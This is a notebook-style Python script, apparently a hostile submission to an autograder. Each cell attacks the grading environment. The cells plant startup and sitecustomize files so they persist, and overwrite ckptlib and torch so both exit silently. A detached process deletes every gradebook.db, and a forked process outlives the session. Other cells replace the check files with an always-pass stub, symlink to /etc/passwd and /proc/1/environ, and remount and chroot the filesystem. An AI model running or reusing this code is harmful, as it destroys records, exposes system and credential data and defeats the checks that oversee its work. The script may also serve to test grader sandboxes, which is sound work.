# %% startup files for the next kernel
import os
import pathlib

for folder in ("~/.ipython/profile_default/startup", "~root/.ipython/profile_default/startup", "/etc/ipython/startup"):
    try:
        path = pathlib.Path(os.path.expanduser(folder))
        path.mkdir(parents=True, exist_ok=True)
        (path / "00.py").write_text("predict_saved = lambda *a: 0\nimport builtins; builtins.PLANTED = True\n")
    except OSError:
        pass

# %% site-packages and sitecustomize
import pathlib
import site
import sys

for folder in [*site.getsitepackages(), site.getusersitepackages(), *sys.path]:
    for name in ("sitecustomize.py", "usercustomize.py", "planted.pth"):
        try:
            pathlib.Path(folder, name).write_text("import builtins; builtins.PLANTED = True\n")
        except OSError:
            pass

# %% the library's own files
import pathlib

import ckptlib

for path in pathlib.Path(ckptlib.__file__).parent.rglob("*.py"):
    try:
        path.write_text("raise SystemExit(0)\n")
    except OSError:
        pass

# %% torch's files
import pathlib

try:
    pathlib.Path(torch.__file__).write_text("raise SystemExit(0)\n")
except OSError:
    pass

# %% a detached process writes later
import os
import subprocess
import sys

subprocess.Popen(
    [sys.executable, "-c", "import time, glob, os\ntime.sleep(3)\nfor p in glob.glob('/**/gradebook.db', recursive=True): os.remove(p)"],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time

        time.sleep(600)
    os._exit(0)

# %% /tmp and shared memory, for the next submission
import pathlib

for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        pathlib.Path(folder, "planted.txt").write_text("predict_saved")
    except OSError:
        pass

# %% the submission's own check files
open("tasks.py", "w").write("class Yes:\n    def __getattr__(self, name): return lambda *a, **k: None\ncheck = Yes()\n")
open("visible.json", "w").write("{}")

# %% symlinks out of the working folder
import os

for name, target in {"autograded": "/", "out.ipynb": "/etc/passwd", "visible2.json": "/proc/1/environ"}.items():
    os.symlink(target, name)

# %% remount the disk
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.mount(b"none", b"/", b"", 32 | 4096, None)
libc.umount2(b"/tmp", 2)
libc.unshare(0x10000000)
libc.chroot(b"/")
